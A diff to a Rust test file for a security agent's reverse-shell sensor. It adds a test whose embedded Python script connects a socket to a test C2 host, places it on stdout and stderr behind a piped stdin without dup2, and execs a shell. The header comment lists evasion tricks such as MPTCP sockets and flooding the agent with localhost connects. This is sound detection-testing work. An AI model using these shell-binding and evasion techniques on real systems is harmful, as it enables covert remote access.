@@ -1,6 +1,7 @@
 //! The `stdio` sensor cannot be walked around (issue "blinds, stalls, stops or fills" §5): a
 //! shell whose standard streams became a socket without `dup2` (fds 0–2 closed, then
-//! `socket()` and `dup()` take their numbers), a shell on an `IPPROTO_MPTCP` socket, and a
+//! `socket()` and `dup()` take their numbers; also on stdout and stderr behind a stdin that is
+//! a pipe), a shell on an `IPPROTO_MPTCP` socket, and a
 //! shell whose C2 connect was pushed out of the agent's outbound memory by 20,000 cheap
 //! localhost connects are each a `reverse_shell` on the C2. Root, real python3 and sh, the
 //! real agent; the C2 is the test host `DE4` (a listener that holds every connection), in a
@@ -56,6 +57,36 @@ fn a_socket_that_lands_on_stdio_without_dup2_is_caught_at_exec() {
         &script,
     );
     assert!(a["detail"].as_str().unwrap().contains("stdin"), "{a}");
+}
+
+#[test]
+fn a_socket_on_stdout_and_stderr_behind_another_stdin_is_caught_at_exec() {
+    if !require_root("a_socket_on_stdout_and_stderr_behind_another_stdin_is_caught_at_exec") {
+        return;
+    }
+    let _serial = serial();
+    let net = TestNet::new("so");
+    let mut procs = Procs::default();
+    hold_connections(&net, PORT, &mut procs);
+    let agent = Agent::start("");
+    // fd 0 a pipe, fds 1 and 2 the socket (socket() and dup() take their numbers): the check
+    // at exec must look past a stdin that is no socket, at the file the next slots hold.
+    let script = format!(
+        "import os, socket\n\
+         r, w = os.pipe(); os.dup2(r, 0)\n\
+         os.close(1); os.close(2)\n\
+         s = socket.socket(); s.connect(('{DE4}', {PORT}))\n\
+         assert s.fileno() == 1\n\
+         os.dup(1)\n\
+         os.set_inheritable(1, True); os.set_inheritable(2, True)\n\
+         os.execv('/bin/sh', ['sh', '-c', 'sleep 60'])\n"
+    );
+    let a = caught(&agent, &mut procs, "a socket on stdout and stderr", &script);
+    let detail = a["detail"].as_str().unwrap();
+    assert!(
+        detail.contains("stdout") && !detail.contains("stdin"),
+        "{a}"
+    );
 }
 
 #[test]
